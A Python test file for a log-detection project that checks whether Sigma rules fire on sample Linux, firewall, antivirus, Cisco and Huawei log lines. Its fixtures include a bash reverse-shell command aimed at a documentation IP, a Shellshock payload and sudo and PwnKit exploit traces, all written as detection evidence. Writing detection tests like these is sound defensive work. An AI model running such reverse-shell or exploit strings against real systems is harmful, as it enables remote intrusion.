"""Rules for Linux, firewalls, malware and Cisco hit what came through syslog and the journal."""

# ruff: noqa: E501 - a log is a line
from __future__ import annotations

from typing import TYPE_CHECKING

import pytest
import yaml

from sentinel.detect.sigma.load import compile_files
from sentinel.detect.sigma.logsource import resolve
from tests.detect.builders import rule
from tests.detections.logs import rules_hit
from tests.formats import syslog_lines as given
from tests.formats.syslog_lines import HEAD, entry

if TYPE_CHECKING:
    from pathlib import Path

SUDO = "{product: linux, service: sudo}"
FIREWALL = "{category: firewall}"
JOURNAL = entry("sudo", given.REFUSED.split(": ", 1)[1]).decode()
CASES: list[tuple[str, str, str, bool]] = [
    ("{USER: '#-1'}", SUDO, given.REFUSED, True),
    ("{USER: '#-1', COMMAND: /bin/ls, PWD: /home/lan, TTY: pts/0}", SUDO, JOURNAL, True),
    ("{USER: root}", SUDO, given.REFUSED, False),
    ("['NOT in sudoers']", SUDO, given.REFUSED.replace("sudo:", "su:"), False),
    ("['NOT in sudoers']", "{product: linux, service: auth}", given.REFUSED, True),
    ("['NOT in sudoers']", "{product: linux, service: syslog}", JOURNAL, True),
    ("['NOT in sudoers']", "{product: linux}", JOURNAL, True),
    ("{src_ip: 203.0.113.7, User: admin}", "{product: linux, service: sshd}", given.FAILED, True),
    ("['curl']", "{product: linux, service: cron}", given.CRON, True),
    ("{dst_port: 23, src_ip|cidr: 203.0.113.0/24, action: drop}", FIREWALL, given.PACKET, True),
    ("{dst_port: 23, OUT: null}", FIREWALL, given.PACKET.replace("kernel: ", ""), True),
    ("{dst_port: 22, action: deny}", FIREWALL, given.CEF, True),
    ("{dst_port: 22, action: deny}", FIREWALL, given.ASA, True),
    ("{dst_port: 22}", FIREWALL, given.FAILED, False),
    ("{Signature|contains: Webshell, Filename|endswith: .php}", "{category: antivirus}", given.MALWARE, True),
    ("{Signature|contains: 'a'}", "{category: antivirus}", given.ACCEPTED, False),
    ("['dot1x']", "{product: cisco, service: aaa}", given.IOS, True),
]


@pytest.mark.parametrize(("selection", "source", "log", "expected"), CASES)
def test_a_rule_hits_what_it_means(selection: str, source: str, log: str, expected: bool) -> None:
    ruleset = compile_files([("0.yml", rule(f"selection: {selection}", source).encode())])
    assert () == ruleset.rejections
    assert expected == bool(rules_hit(ruleset, log))


def test_every_log_source_of_sigmahq_that_syslog_carries_is_read(shared: Path) -> None:
    sources = set()
    for folder in ("rules", "rules-emerging-threats", "rules-threat-hunting"):
        for path in (shared / "sigma" / folder).rglob("*.yml"):
            for document in yaml.load_all(path.read_text(encoding="utf-8"), yaml.CSafeLoader):
                source = document["logsource"]
                sources.add((source.get("product"), source.get("category"), source.get("service")))
    carried = {
        source
        for source in sources
        if (source[0] in {"linux", "cisco", "huawei", "juniper"} and source[1] is None and source[2] != "duo")
        or source in {(None, "firewall", None), (None, "antivirus", None)}
    }
    assert len(carried) > 12
    assert set() == {source for source in carried if not resolve(*source)}


RULES = "rules/linux/builtin/"
# A rule of SigmaHQ by its path → a log that it is about.
EVIDENCE: dict[str, str] = {
    RULES + "lnx_privileged_user_creation.yml": given.ADDED,
    RULES + "lnx_shellshock.yml": HEAD + "dhclient[1]: () { :; }; /bin/id",
    RULES + "lnx_shell_susp_rev_shells.yml": HEAD + "bash[1]: HISTORY: bash -i >& /dev/tcp/203.0.113.66/443 0>&1",
    RULES + "lnx_potential_susp_ebpf_activity.yml": entry("kernel", "x[1] is installing bpf_probe_write_user helper").decode(),
    RULES + "clamav/lnx_clamav_relevant_message.yml": given.MALWARE,
    RULES + "cron/lnx_cron_crontab_file_modification.yml": HEAD + "crontab[1]: (lan) REPLACE (lan)",
    RULES + "guacamole/lnx_guacamole_susp_guacamole.yml": HEAD + 'guacd[1]: User "@a" joined (2 users now present)',
    RULES + "sshd/lnx_sshd_susp_ssh.yml": HEAD + "sshd-session[1]: error: Corrupted MAC on input. [preauth]",
    RULES + "syslog/lnx_syslog_susp_named.yml": HEAD + "named[1]: client @0x1 192.0.2.1#5 (x): denied AXFR from 192.0.2.1",
    RULES + "vsftpd/lnx_vsftpd_susp_error_messages.yml": HEAD + 'vsftpd[1]: CONNECT: Client "192.0.2.1", "Connection refused: tcp_wrappers denial."',
    "rules-emerging-threats/2021/Exploits/CVE-2021-4034/lnx_auth_exploit_cve_2021_4034_pwnkit_lpe.yml": HEAD + "pkexec[1]: lan: The value for environment variable XAUTHORITY contains suspicious content [USER=root] [TTY=/dev/pts/0] [CWD=/] [COMMAND=x]",
    "rules-emerging-threats/2019/Exploits/CVE-2019-14287/lnx_sudo_exploit_cve_2019_14287.yml": given.REFUSED,
    "rules/network/firewall/net_firewall_cleartext_protocols.yml": given.PACKET.replace("BLOCK", "ALLOW"),
    "rules/category/antivirus/av_webshell.yml": given.MALWARE,
    "rules/network/cisco/aaa/cisco_cli_dot1x_disabled.yml": given.IOS,
    "rules/network/cisco/bgp/cisco_bgp_md5_auth_failed.yml": "<187>45: Oct  1 22:14:15: %IP-TCP-3-BADAUTH: No MD5 digest from 192.0.2.1:179 to 192.0.2.2:1",
    "rules/network/huawei/bgp/huawei_bgp_auth_failed.yml": "<187>Oct  1 2026 22:14:15 r1 %%01BGP/3/BGP_AUTH_FAILED(l): from 192.0.2.1:179",
}  # fmt: skip


@pytest.mark.parametrize("name", EVIDENCE)
def test_a_rule_of_sigmahq_hits_a_log_that_it_is_about(shared: Path, name: str) -> None:
    ruleset = compile_files([(name, (shared / "sigma" / name).read_bytes())])
    assert () == ruleset.rejections
    assert {0} == rules_hit(ruleset, EVIDENCE[name] + "\n")
